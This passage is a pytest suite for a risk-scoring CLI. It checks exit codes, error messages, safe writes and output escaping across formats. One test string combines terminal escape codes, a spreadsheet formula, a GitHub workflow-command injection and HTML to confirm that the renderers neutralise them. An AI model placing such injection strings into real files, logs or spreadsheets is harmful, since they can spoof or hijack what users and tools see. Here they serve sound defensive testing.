"""Issue 13's failure kinds, each fed through every command and format it can reach.

One test (parametrised) per kind: non-finite numbers, write failures, control characters,
hidden files and discovery, one-line fields. Each asserts the contract: exit 0/1/2 only,
`path:line: message` on stderr, no traceback, and nothing left behind.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pytest
import xmlschema
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from riskscore.analysis.pipeline import evaluate_paths, make_report, open_criteria
from riskscore.commands.app import app
from riskscore.engine.scorecard import Citation, Report
from riskscore.render import FORMATS, RenderOptions, get_renderer
from riskscore.render.escape import (
    BIDI,
    csv_cell,
    log_line,
    md_cell,
    md_line,
    md_text,
    terminal,
    workflow_data,
    xlsx_text,
    xml_text,
)
from tests.conftest import MINI, ROOT, mini_profile

runner = CliRunner()
TODAY = "2026-11-23"


def run(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        f"{type(result.exception).__name__}: {result.exception}"
    )
    assert "Traceback" not in result.stderr
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def profiles(tmp_path: Path) -> tuple[Path, Path]:
    one = tmp_path / "in" / "one.yaml"
    two = tmp_path / "in" / "two.yaml"
    one.parent.mkdir()
    one.write_text(mini_profile("flag: true\nlevel: high\nshare: 60"), encoding="utf-8")
    two.write_text(mini_profile("flag: false\nlevel: low"), encoding="utf-8")
    return one, two


# --- 1. non-finite numbers ---------------------------------------------------------------

NON_FINITE_OPTIONS = [
    ("evaluate", "{p}", "--fail-under", "{v}"),
    ("diff", "{mini}", "{mini}", "{p}", "--max-delta", "{v}"),
    ("report", "{p}", "--samples", "5", "--spread", "{v}", "-o", "{out}"),
]


@pytest.mark.parametrize("value", ["nan", "NaN", "inf", "-inf", "infinity"])
@pytest.mark.parametrize("argv", NON_FINITE_OPTIONS, ids=lambda a: f"{a[0]}-{a[-2]}")
def test_non_finite_numbers_are_usage_errors(
    argv: tuple[str, ...], value: str, profiles: tuple[Path, Path], tmp_path: Path
) -> None:
    out = tmp_path / "out.html"
    args = [a.format(p=profiles[0], mini=MINI, v=value, out=out) for a in argv]
    if args[0] != "diff":
        args += ["-c", str(MINI)]
    code, _stdout, stderr = run(*args)
    assert code == 2, stderr
    assert "finite" in stderr or "range" in stderr
    assert not out.exists()


@pytest.mark.parametrize("number", [".nan", ".NaN", ".inf", "-.Inf", "1e400", "-1e999"])
def test_non_finite_numbers_in_files_are_refused_with_a_line(tmp_path: Path, number: str) -> None:
    path = tmp_path / "p.yaml"
    path.write_text(mini_profile(f"share: {number}"), encoding="utf-8")
    for command in (["evaluate"], ["validate"], ["compare"], ["sensitivity", "-n", "4"]):
        code, _, stderr = run(*command, str(path), "-c", str(MINI))
        assert code == 2
        assert stderr.startswith(f"{path}:5: facts.share: ")


@pytest.mark.parametrize("number", [".nan", "nan", ".inf", "-.Inf", "1e400"])
def test_non_finite_numbers_in_whatif_assignments_are_refused(
    profiles: tuple[Path, Path], number: str
) -> None:
    code, stdout, stderr = run(
        "whatif", str(profiles[0]), "-c", str(MINI), "--set", f"share={number}"
    )
    assert (code, stdout) == (2, "")
    assert stderr.startswith(f"--set share={number}: expected a number")


# --- 2. write failures ---------------------------------------------------------------------

WRITERS = {
    "evaluate-table": ["evaluate", "{one}", "-c", "{mini}"],
    "evaluate-json": ["evaluate", "{one}", "{two}", "-c", "{mini}", "-f", "json"],
    "evaluate-sarif": ["evaluate", "{one}", "-c", "{mini}", "-f", "sarif"],
    "report": ["report", "{one}", "-c", "{mini}", "--samples", "5"],
    "init": ["init", "New mine", "-c", "{mini}"],
    "diff": ["diff", "{mini}", "{mini}", "{one}"],
    "criteria": ["criteria", "-c", "{mini}"],
    "schema": ["schema", "profile", "-c", "{mini}"],
    "whatif": ["whatif", "{one}", "-c", "{mini}", "--set", "flag=false"],
    "compare": ["compare", "{one}", "{two}", "-c", "{mini}"],
    "sensitivity": ["sensitivity", "{one}", "-c", "{mini}", "-n", "4"],
}


def _argv(name: str, profiles: tuple[Path, Path]) -> list[str]:
    one, two = profiles
    return [a.format(one=one, two=two, mini=MINI) for a in WRITERS[name]]


@pytest.mark.parametrize("stage", ["create", "write", "rename"])
@pytest.mark.parametrize("name", sorted(WRITERS))
def test_a_refused_write_is_exit_2_and_leaves_nothing(
    name: str,
    stage: str,
    profiles: tuple[Path, Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / "result.txt"
    real_mkstemp = tempfile.mkstemp

    def mkstemp(*args: object, **kwargs: object) -> tuple[int, str]:
        if stage == "create":
            raise PermissionError(13, "Permission denied")
        fd, path = real_mkstemp(*args, **kwargs)  # type: ignore[call-overload]
        if stage == "write":  # a full disk: the file exists but takes no bytes
            os.close(fd)
            fd = os.open("/dev/full", os.O_WRONLY)
        return fd, path

    def replace(src: str, dst: str) -> None:
        raise OSError(30, "Read-only file system")

    monkeypatch.setattr(tempfile, "mkstemp", mkstemp)
    if stage == "rename":
        monkeypatch.setattr(os, "replace", replace)
    code, _stdout, stderr = run(*_argv(name, profiles), "--output", str(target))
    reason = {
        "create": "Permission denied",
        "write": "No space left on device",
        "rename": "Read-only file system",
    }
    assert (code, stderr) == (2, f"{target}: cannot write: {reason[stage]}\n")
    assert list(out_dir.iterdir()) == []


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize(
    "name",
    [*sorted(WRITERS), "validate", "explain", "help", "evaluate-help"],
)
def test_stdout_on_a_full_disk_is_exit_2(name: str, profiles: tuple[Path, Path]) -> None:
    others = {
        "validate": ["validate", str(profiles[0]), "-c", str(MINI)],
        "explain": ["explain", "c-bool", "-c", str(MINI)],
        "help": ["--help"],
        "evaluate-help": ["evaluate", "--help"],
    }
    argv = others[name] if name in others else _argv(name, profiles)
    if name == "report":
        argv += ["-o", "-"]  # report writes to stdout only when asked to
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "riskscore", *argv],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            cwd=ROOT,
            check=False,
        )
    assert (done.returncode, done.stderr) == (
        2,
        "<stdout>: cannot write: No space left on device\n",
    )


# --- 3. control characters -------------------------------------------------------------------

ESCAPES = [r"\x01", r"\e[31m", r"\x1b]0;title\x07", r"\x7f", r"\x9b", r"\u202e", r"\0"]


@pytest.mark.parametrize("escape", ESCAPES)
@pytest.mark.parametrize(
    "where", ["project.name", "project.region", "facts.level.note", "sources.s1.title", "key"]
)
def test_control_characters_written_as_escapes_are_refused(
    tmp_path: Path, escape: str, where: str
) -> None:
    text = f'"Mini{escape} mine"'
    lines = {
        "project.name": ("project:", f"  name: {text}", "  country: X", "facts:", "  flag: true"),
        "project.region": (
            "project:",
            "  name: M",
            "  country: X",
            f"  region: {text}",
            "facts:",
            "  flag: true",
        ),
        "facts.level.note": (
            "project: {name: M, country: X}",
            "sources:",
            "  s1: {title: T, ref: r}",
            "facts:",
            f"  level: {{value: high, source: s1, note: {text}}}",
        ),
        "sources.s1.title": (
            "project: {name: M, country: X}",
            "sources:",
            f"  s1: {{title: {text}, ref: r}}",
            "facts:",
            "  level: {value: high, source: s1}",
        ),
        "key": ("project: {name: M, country: X}", "facts:", f"  {text}: true"),
    }[where]
    path = tmp_path / "p.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    line = next(i for i, text_line in enumerate(lines, 1) if escape in text_line)
    for command in (["evaluate"], ["validate"], ["report", "-o", str(tmp_path / "r.html")]):
        code, stdout, stderr = run(*command, str(path), "-c", str(MINI))
        assert code == 2
        assert re.match(rf"{re.escape(str(path))}:{line}: .*control character U\+", stderr)
        assert "\x1b" not in stderr and stdout == ""
    assert not (tmp_path / "r.html").exists()


EVIL = "Mini\x1b[31m\x01 | =HYPERLINK(1)\r\n::error::x\x9b2J <b>&</b>\x00"


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        value = list(value.values())
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


def _evil_report(tmp_path: Path) -> Report:
    """A report whose texts hold every hostile character, as if built without the loader."""
    path = tmp_path / "p.yaml"
    path.write_text(mini_profile("flag: false\nlevel: low\nrisk: severe"), encoding="utf-8")
    cset = open_criteria(MINI)
    cards = evaluate_paths([path], cset, TODAY).scorecards
    card = cards[0].model_copy(
        update={
            "project": "=" + EVIL,
            "country": "@" + EVIL,
            "criteria": [c.model_copy(update={"explanation": EVIL}) for c in cards[0].criteria],
            "flags": [f.model_copy(update={"message": EVIL}) for f in cards[0].flags],
        }
    )
    return make_report([card], cset)


@pytest.mark.parametrize("color", [False, True])
@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_every_writer_is_safe_for_its_consumer(tmp_path: Path, fmt: str, color: bool) -> None:
    report = _evil_report(tmp_path)
    text = get_renderer(fmt)(report, RenderOptions(color=color, width=100))
    # No writer lets a C0 control character through raw (JSON and SARIF escape them as
    # \u00XX and keep the data exact); the text formats drop DEL and C1 as well. With colour
    # on, the only escapes left are rich's own SGR sequences.
    without_sgr = re.sub(r"\x1b\[[0-9;]*m", "", text) if color and fmt == "table" else text
    forbidden = (
        "[\x00-\x08\x0b-\x1f]"
        if fmt in ("json", "jsonl", "sarif")
        else "[\x00-\x08\x0b-\x1f\x7f-\x9f]"
    )
    assert not re.search(forbidden, without_sgr), fmt
    if fmt in ("json", "sarif"):
        assert any(EVIL in s for s in _strings(json.loads(text)))  # the data is kept exactly
    elif fmt == "jsonl":
        lines = [json.loads(line) for line in text.splitlines()]
        assert len(lines) == 1 and any(EVIL in s for s in _strings(lines[0]))
    elif fmt == "junit":
        root = ET.fromstring(text.encode("utf-8"))  # well-formed XML 1.0
        assert root.find("testsuite") is not None
    elif fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == 1
        assert rows[0]["project"].startswith("'=") and rows[0]["country"].startswith("'@")
    elif fmt == "github":
        for line in text.splitlines():
            assert re.match(r"^::(error|warning|notice)( [^:]*)?::", line), line
        assert text.count("\n") == len(text.splitlines())
    elif fmt == "markdown":
        for line in text.splitlines():
            if line.startswith("|") and "Mini" in line:
                cells = re.split(r"(?<!\\)\|", line.strip())[1:-1]
                header = next(h for h in text.splitlines() if h.startswith("| "))
                assert len(cells) == len(re.split(r"(?<!\\)\|", header.strip())[1:-1])


def test_escape_helpers() -> None:
    assert terminal("a\x1b[31mb\x9bc\td\n") == "a[31mbc\td\n"
    assert xml_text("a\x01b\ufffe\x9b\U0001f600") == "a\ufffdb\ufffd\ufffd\U0001f600"
    assert md_cell("a|b\r\nc\u2028d\x01") == "a\\|b c d"
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@a", "\tx", "ok", -1.5)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "ok",
        -1.5,
    ]


# --- 4. discovery ------------------------------------------------------------------------------


def _tree(root: Path) -> None:
    """A folder with every discovery trap: resource forks, editor copies, hidden folders,
    upper-case extensions, a link to a file, and a link that loops back up."""
    good = mini_profile("flag: true")
    (root / "sub").mkdir(parents=True)
    (root / ".hidden").mkdir()
    (root / "a.yaml").write_text(good, encoding="utf-8")
    (root / "B.YAML").write_text(good, encoding="utf-8")
    (root / "c.Yml").write_text(good, encoding="utf-8")
    (root / "._a.yaml").write_bytes(b"\x00\x05\x16\x07Mac OS X")
    (root / ".#a.yaml").write_text(good, encoding="utf-8")
    (root / ".hidden" / "h.yaml").write_text(good, encoding="utf-8")
    (root / "notes.txt").write_text("not a profile", encoding="utf-8")
    (root / "sub" / "d.yaml").write_text(good, encoding="utf-8")
    (root / "sub" / "up").symlink_to("..")
    (root / "link.yaml").symlink_to("a.yaml")


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("{root}", ["a.yaml", "B.YAML", "c.Yml"]),
        ("{root}/*", ["a.yaml", "B.YAML", "c.Yml"]),
        ("{root}/*.yaml", ["a.yaml"]),
        ("{root}/.*", []),
        ("{root}/**/*.yaml", ["a.yaml", "sub/d.yaml"]),
        ("{root}/**/*", ["a.yaml", "B.YAML", "c.Yml", "sub/d.yaml"]),
        ("{root}/sub/up/sub/up", ["a.yaml", "B.YAML", "c.Yml"]),
    ],
)
@pytest.mark.parametrize("command", ["evaluate", "validate", "compare", "sensitivity", "report"])
def test_one_discovery_rule_for_every_form(
    tmp_path: Path, pattern: str, expected: list[str], command: str
) -> None:
    root = tmp_path / "projects"
    _tree(root)
    arg = pattern.format(root=root)
    if command == "evaluate":
        code, stdout, stderr = run("evaluate", arg, "-c", str(MINI), "-f", "csv")
        if not expected:
            assert code == 2 and "no profiles" in stderr
            return
        assert code == 0, stderr
        paths = [row["path"] for row in csv.DictReader(io.StringIO(stdout))]
        base = root if "sub/up" not in arg else root / "sub" / "up" / "sub" / "up"
        assert sorted(Path(p).relative_to(base).as_posix() for p in paths) == sorted(expected)
        return
    extra = {"sensitivity": ["-n", "4"], "report": ["--samples", "2", "-o", str(tmp_path / "r")]}
    code, _, stderr = run(command, arg, "-c", str(MINI), *extra.get(command, []))
    enough = len(expected) >= (2 if command == "compare" else 1)
    assert code == (0 if enough else 2), stderr


def test_a_missing_file_suggests_its_neighbour(tmp_path: Path) -> None:
    (tmp_path / "reko-diq.yaml").write_text(mini_profile("flag: true"), encoding="utf-8")
    for command in ("evaluate", "compare", "report", "sensitivity"):
        extra = ("-o", str(tmp_path / "r.html")) if command == "report" else ()
        code, _, stderr = run(command, str(tmp_path / "reko-dik.yaml"), "-c", str(MINI), *extra)
        assert (code, stderr) == (
            2,
            f"{tmp_path / 'reko-dik.yaml'}: no such file or directory "
            f"(did you mean '{tmp_path / 'reko-diq.yaml'}'?)\n",
        )


# --- 5. one-line fields ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "block", "line"),
    [
        ("project.name", "  name: >\n    Alpha Mine\n", 2),
        ("project.country", "  name: A\n  country: |\n    Pakistan\n", 3),
        ("project.name", '  name: "Alpha\\nMine"\n', 2),
        ("project.name", '  name: "Alpha\\u2028Mine"\n', 2),
    ],
)
def test_one_line_fields_are_trimmed_and_refuse_line_breaks(
    tmp_path: Path, field: str, block: str, line: int
) -> None:
    text = "project:\n" + block
    if "country" not in block:
        text += "  country: X\n"
    text += "facts:\n  flag: true\n"
    path = tmp_path / "p.yaml"
    path.write_text(text, encoding="utf-8")
    code, stdout, stderr = run("evaluate", str(path), "-c", str(MINI), "-f", "csv")
    if ">" in block or "|" in block:  # one trailing newline: trimmed, the file is fine
        assert code == 0, stderr
        row = next(csv.DictReader(io.StringIO(stdout)))
        assert row["project"] in ("Alpha Mine", "A") and row["country"] in ("X", "Pakistan")
        for fmt in ("markdown", "junit", "github"):
            code, out, _ = run("evaluate", str(path), "-c", str(MINI), "-f", fmt)
            assert code == 0 and "Alpha Mine\n" not in out and "%0A" not in out.split("::")[0]
        return
    assert code == 2
    assert stderr.startswith(f"{path}:{line}: {field}: must be one line")


# --- 6. GitHub annotation caps -----------------------------------------------------------------


def _annotations(text: str) -> list[str]:
    """The workflow commands GitHub turns into annotations (the group's lines are plain)."""
    return [line for line in text.splitlines() if re.match(r"^::(error|warning|notice)", line)]


@pytest.mark.parametrize("gate", [[], ["--fail-under", "99", "--fail-on-flag"]])
@pytest.mark.parametrize("count", [1, 3, 12])
def test_github_annotations_put_what_matters_first_within_the_caps(
    tmp_path: Path, count: int, gate: list[str]
) -> None:
    for i in range(count):
        (tmp_path / f"p{i:02}.yaml").write_text(
            mini_profile("flag: false\nlevel: mid\nrisk: severe"), encoding="utf-8"
        )
    code, stdout, stderr = run("evaluate", str(tmp_path), "-c", str(MINI), "-f", "github", *gate)
    assert code == (1 if gate else 0), stderr
    shown = _annotations(stdout)
    levels = [re.match(r"^::(\w+)", line).group(1) for line in shown]  # type: ignore[union-attr]
    assert len(shown) <= 50 and all(levels.count(level) <= 10 for level in set(levels))
    # Red flags first, then the gates, then the summaries, then the rest.
    kinds = [
        "flag"
        if "title=riskscore red flag" in line and line.startswith("::error")
        else "gate"
        if "title=riskscore gate" in line
        else "summary"
        if line.startswith("::notice::riskscore: ")
        else "closing"
        if "annotations left out" in line
        else "rest"
        for line in shown
    ]
    order = {"flag": 0, "gate": 1, "summary": 2, "rest": 3, "closing": 4}
    assert kinds == sorted(kinds, key=order.__getitem__)
    # Per profile (hand-counted from the mini set): the c-na red flag (error); c-bool and
    # c-weighted unmet (warnings); c-levels partial, c-linear unknown, c-na unknown (its
    # applicability fact n_a is unstated, so it scores 0: method v3) and the summary
    # (notices). Each tripped gate adds an error: the score gate and the red-flag gate.
    per_level = {"error": count + (2 * count if gate else 0), "warning": 2 * count}
    per_level["notice"] = 4 * count
    total = sum(per_level.values())
    hidden = re.search(r"::group::riskscore: (\d+) more findings", stdout)
    if total <= 50 and max(per_level.values()) <= 10:
        assert hidden is None and len(shown) == total
        return
    assert hidden is not None
    assert int(hidden.group(1)) == total - (len(shown) - 1)  # the closing line is extra
    assert kinds[-1] == "closing" and f"{hidden.group(1)} findings were left out" in shown[-1]
    assert "--format sarif" in shown[-1] and "GITHUB_STEP_SUMMARY" in shown[-1]


# --- 7. line numbers as an editor shows them ---------------------------------------------------

ODD_TEXT = {
    "lf": ("\n", ""),
    "crlf": ("\r\n", ""),
    "cr": ("\r", ""),
    "bom": ("\n", "\ufeff"),
    "nel-in-text": ("\n", "\x85"),
    "line-separator-in-text": ("\r\n", "\u2028"),
    "paragraph-separator-in-comment": ("\n", "\u2029"),
}


def _odd_profile(tmp_path: Path, kind: str, last: str) -> tuple[Path, int]:
    """A profile whose line 7 (as an editor counts) is `last`; odd characters on line 3."""
    newline, odd = ODD_TEXT[kind]
    bom = odd if kind == "bom" else ""
    inner = "" if kind == "bom" else odd
    lines = [
        "project:",
        "  name: Test",
        f'  summary: "one{inner}two"  # note{inner}',
        "  country: Nowhere",
        "facts:",
        "  flag: false",
        last,
    ]
    path = tmp_path / f"{kind}.yaml"
    path.write_bytes((bom + newline.join(lines) + newline).encode("utf-8"))
    return path, 7


@pytest.mark.parametrize("kind", sorted(ODD_TEXT))
def test_line_numbers_are_the_ones_an_editor_shows(tmp_path: Path, kind: str) -> None:
    # An error on line 7: every command reports line 7.
    bad, line = _odd_profile(tmp_path, kind, "  level: hihg")
    for command in (["evaluate"], ["validate"], ["compare", str(bad)], ["sensitivity"]):
        code, _, stderr = run(command[0], str(bad), *command[1:], "-c", str(MINI))
        assert code == 2 and stderr.startswith(f"{bad}:{line}: facts.level: "), stderr
    # A finding on line 7: SARIF regions and GitHub annotations point at line 7.
    good, line = _odd_profile(tmp_path, kind, "  level: low")
    code, sarif, _ = run("evaluate", str(good), "-c", str(MINI), "-f", "sarif")
    assert code == 0
    regions = {
        r["ruleId"]: r["locations"][0]["physicalLocation"]["region"]["startLine"]
        for r in json.loads(sarif)["runs"][0]["results"]
    }
    assert regions["c-levels"] == line and regions["c-bool"] == 6
    code, github, _ = run("evaluate", str(good), "-c", str(MINI), "-f", "github")
    assert re.search(rf"line={line},title=riskscore Levels criterion::", github)


# --- 8. smaller items ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("env", "tty", "expected"),
    [
        ({}, True, True),
        ({}, False, False),
        ({"NO_COLOR": "1"}, True, False),
        ({"NO_COLOR": ""}, True, True),  # empty means unset (no-color.org)
        ({"FORCE_COLOR": "1"}, False, True),
        ({"FORCE_COLOR": ""}, False, False),
        ({"FORCE_COLOR": "1", "NO_COLOR": "1"}, True, False),
        ({"TERM": "dumb"}, True, False),
        ({"TERM": "dumb", "FORCE_COLOR": "1"}, False, True),
    ],
)
def test_colour_follows_the_conventions_users_set(
    monkeypatch: pytest.MonkeyPatch, env: dict[str, str], tty: bool, expected: bool
) -> None:
    from riskscore.commands import common

    for name in ("NO_COLOR", "FORCE_COLOR", "TERM"):
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(sys.stdout, "isatty", lambda: tty)
    assert common.use_color(None) is expected
    assert common.use_color(Path("out.txt")) is False  # never into a file


def test_force_color_colours_a_pipe_and_no_color_wins(profiles: tuple[Path, Path]) -> None:
    def run_with(env: dict[str, str]) -> str:
        clean = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "FORCE_COLOR")}
        argv = [sys.executable, "-m", "riskscore", "evaluate", str(profiles[0]), "-c", str(MINI)]
        done = subprocess.run(argv, capture_output=True, text=True, env={**clean, **env})
        assert done.returncode == 0, done.stderr
        return done.stdout

    assert "\x1b[" in run_with({"FORCE_COLOR": "1"})
    assert "\x1b[" not in run_with({"FORCE_COLOR": "1", "NO_COLOR": "1"})
    assert "\x1b[" not in run_with({})


def test_a_bom_does_not_change_the_criteria_hash(tmp_path: Path) -> None:
    import shutil

    from riskscore.load.criteria.loader import load_criteria

    copy = tmp_path / "mini"
    shutil.copytree(MINI, copy)
    for path in copy.rglob("*.yaml"):
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n"))
    assert load_criteria(copy).hash == load_criteria(MINI).hash


def test_base_in_a_shallow_clone_says_to_fetch_history(tmp_path: Path) -> None:
    import shutil

    origin = tmp_path / "origin"
    shutil.copytree(MINI, origin / "criteria")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"]
    for args in (["init", "-q"], ["add", "."], ["commit", "-qm", "one"]):
        subprocess.run([*git, *args], cwd=origin, check=True, capture_output=True)
    (origin / "criteria" / "c-bool.yaml").write_text(
        (origin / "criteria" / "c-bool.yaml").read_text() + "\n", encoding="utf-8"
    )
    subprocess.run([*git, "commit", "-qam", "two"], cwd=origin, check=True, capture_output=True)
    clone = tmp_path / "clone"
    subprocess.run(
        ["git", "clone", "-q", "--depth", "1", f"file://{origin}", str(clone)],
        check=True,
        capture_output=True,
    )
    done = subprocess.run(
        [sys.executable, "-m", "riskscore", "diff", "--base", "HEAD~1", str(ROOT / "projects")],
        cwd=clone,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 2
    assert "unknown git ref 'HEAD~1'" in done.stderr
    assert "shallow clone" in done.stderr and "fetch-depth: 0" in done.stderr


def test_facts_at_the_top_level_are_one_error(tmp_path: Path) -> None:
    path = tmp_path / "p.yaml"
    path.write_text(
        "project: {name: T, country: N}\nflag: true\nlevel: high\nshare: 40\n", encoding="utf-8"
    )
    for command in ("evaluate", "validate"):
        code, _, stderr = run(command, str(path), "-c", str(MINI))
        assert (code, stderr) == (
            2,
            f"{path}:2: flag: 'flag' and 2 more facts are written at the top level; facts go "
            "under a `facts:` key (indent them below `facts:`)\n",
        )


@pytest.mark.parametrize("jobs", ["1", "2"])
@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_keep_going_shows_the_others_and_still_exits_2(tmp_path: Path, fmt: str, jobs: str) -> None:
    for name, title in (("a", "Alpha"), ("c", "Gamma")):
        text = mini_profile("flag: true").replace("name: Test", f"name: {title}")
        (tmp_path / f"{name}.yaml").write_text(text, encoding="utf-8")
    (tmp_path / "b.yaml").write_text("project: {name: Bad}\n", encoding="utf-8")
    args = ["evaluate", str(tmp_path), "-c", str(MINI), "-f", fmt, "-j", jobs]
    code, stdout, stderr = run(*args)
    assert (code, stdout) == (2, "")  # without --keep-going: nothing but the error
    code, stdout, stderr = run(*args, "--keep-going")
    assert code == 2
    assert "Alpha" in stdout and "Gamma" in stdout and "Bad" not in stdout
    assert stderr == (
        f"{tmp_path / 'b.yaml'}:1: project: missing required key 'country'\n"
        "riskscore: 1 of 3 profiles could not be scored (above); the output shows the others\n"
    )


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("projects/x.yaml", {"uri": "projects/x.yaml", "uriBaseId": "%SRCROOT%"}),
        ("/repo/projects/x y.yaml", {"uri": "projects/x%20y.yaml", "uriBaseId": "%SRCROOT%"}),
        ("../other/x.yaml", {"uri": "file:///other/x.yaml"}),
        ("/elsewhere/x.yaml", {"uri": "file:///elsewhere/x.yaml"}),
        ("projects/../x.yaml", {"uri": "x.yaml", "uriBaseId": "%SRCROOT%"}),
    ],
)
def test_sarif_uris_map_to_the_repository_or_are_absolute(
    path: str, expected: dict[str, str]
) -> None:
    from riskscore.render.sarif import artifact_location

    assert artifact_location(path, cwd="/repo") == expected


def test_sarif_of_absolute_and_parent_paths_is_valid(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import jsonschema

    from tests.conftest import DATA

    inner = tmp_path / "repo"
    inner.mkdir()
    outside = tmp_path / "outside.yaml"
    outside.write_text(mini_profile("flag: false"), encoding="utf-8")
    (inner / "in.yaml").write_text(mini_profile("flag: false"), encoding="utf-8")
    monkeypatch.chdir(inner)
    code, stdout, _ = run(
        "evaluate", str(inner / "in.yaml"), "../outside.yaml", "-c", str(MINI), "-f", "sarif"
    )
    assert code == 0
    log = json.loads(stdout)
    jsonschema.validate(log, json.loads((DATA / "sarif-2.1.0-schema.json").read_text()))
    uris = {
        json.dumps(r["locations"][0]["physicalLocation"]["artifactLocation"], sort_keys=True)
        for r in log["runs"][0]["results"]
    }
    assert uris == {
        json.dumps({"uri": "in.yaml", "uriBaseId": "%SRCROOT%"}, sort_keys=True),
        json.dumps({"uri": f"file://{outside}"}, sort_keys=True),
    }
    assert "%SRCROOT%" in log["runs"][0]["originalUriBaseIds"]


# --- done means: nothing in the corpus crashes ---------------------------------------------------

CORPUS = Path(__file__).resolve().parent / "corpus"
CORPUS_COMMANDS = [
    ["evaluate"],
    ["evaluate", "-f", "sarif"],
    ["evaluate", "-f", "junit"],
    ["evaluate", "-f", "github"],
    ["evaluate", "-f", "csv"],
    ["evaluate", "-f", "markdown"],
    ["evaluate", "-f", "json"],
    ["validate"],
    ["compare", str(CORPUS / "profiles" / "bom-ok.yaml")],
    ["sensitivity", "-n", "3"],
    ["whatif", "--set", "flag=true"],
]


@pytest.mark.parametrize("command", CORPUS_COMMANDS, ids=" ".join)
def test_no_corpus_input_gives_a_traceback_or_another_exit_code(command: list[str]) -> None:
    for profile in sorted((CORPUS / "profiles").glob("*.yaml")):
        code, _, stderr = run(command[0], str(profile), *command[1:], "-c", str(MINI))
        assert code in (0, 1, 2), (profile, command)
        if code == 2:
            assert stderr.strip(), (profile, command)  # a message, never silence
    for folder in sorted((CORPUS / "criteria").iterdir()):
        code, _, stderr = run("validate", "-c", str(folder))
        assert code == 2 and "Traceback" not in stderr


# --- part 1: messages do not depend on a dependency's version ----------------------------------

BROKEN_YAML = {
    "a: b: c\n": "mapping values are not allowed in this context",
    "a:\n  b: 1\n c: 2\n": "did not find expected key",
    "a: 1\n\tb: 2\n": "found character that cannot start any token",
    "a: [1, 2\n": "did not find expected ',' or ']'",
    "a: {b: 1\n": "did not find expected ',' or '}'",
    'a: "x\n': "found unexpected end of stream",
    'a: "\\q"\n': "found unknown escape character",
    "a: 1\n- b\n": "did not find expected key",
    "a: @x\n": "found character that cannot start any token",
    "- a\nb: 1\n": "did not find expected '-' indicator",
    "a: 'x' y\n": "did not find expected key",
    "[" * 60 + "\n": "nesting depth",
}


@pytest.mark.parametrize("text", sorted(BROKEN_YAML), ids=repr)
def test_yaml_syntax_messages_are_riskscores_own(tmp_path: Path, text: str) -> None:
    from riskscore.errors import InputError
    from riskscore.load.yaml_reader import MAX_DEPTH, UNKNOWN_PROBLEM, YAML_PROBLEMS, parse_yaml

    with pytest.raises(InputError) as caught:
        parse_yaml(text, "f.yaml")
    message = caught.value.message
    ours = {*YAML_PROBLEMS.values(), UNKNOWN_PROBLEM}
    if BROKEN_YAML[text] == "nesting depth":
        assert message == f"nesting deeper than {MAX_DEPTH} levels"
        return
    body = message.removeprefix("invalid YAML: ")
    body = re.sub(r" \(while [a-z ]+ on line \d+\)", "", body)
    body = re.sub(r": '.*'$", "", body)  # the offending line, shown after an indentation hint
    layout = ("tabs are not allowed in YAML indentation", "this line is indented deeper")
    assert body in ours or body.startswith(layout), message
    # Every problem this libyaml reports here is one we have words for.
    assert body != UNKNOWN_PROBLEM, message


def test_an_unknown_libyaml_problem_gets_our_generic_message(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import yaml

    from riskscore.errors import InputError
    from riskscore.load import yaml_reader

    class Mark:
        line, column, index = 1, 0, 5

    def broken(self: object) -> None:
        raise yaml.MarkedYAMLError(
            "while doing something new", Mark(), "a problem libyaml 0.3 might add", Mark()
        )

    monkeypatch.setattr(yaml_reader._Builder, "run", lambda self, get: broken(self))
    with pytest.raises(InputError) as caught:
        yaml_reader.parse_yaml("a: 1\nb: 2\n", "f.yaml")
    assert str(caught.value) == f"f.yaml:2: invalid YAML: {yaml_reader.UNKNOWN_PROBLEM}"


@pytest.mark.parametrize(
    ("block", "expected"),
    [
        ('  name: ""\n  country: X\n', "2: project.name: must not be empty"),
        ("  name: A\n  country: X\n  commodities: {a: 1}\n", "4: project.commodities: "),
    ],
)
def test_pydantic_messages_are_riskscores_own(tmp_path: Path, block: str, expected: str) -> None:
    path = tmp_path / "p.yaml"
    path.write_text("project:\n" + block + "facts:\n  flag: true\n", encoding="utf-8")
    code, _, stderr = run("evaluate", str(path), "-c", str(MINI))
    assert code == 2 and stderr.startswith(f"{path}:{expected}"), stderr
    assert "Input should" not in stderr  # pydantic's own wording never reaches the user


def test_the_html_report_escapes_whatever_a_profile_holds(tmp_path: Path) -> None:
    import dataclasses

    from riskscore.analysis.pipeline import load_profiles
    from riskscore.load.profile_models import ProjectInfo
    from riskscore.render.html_report import ReportSettings, render_report

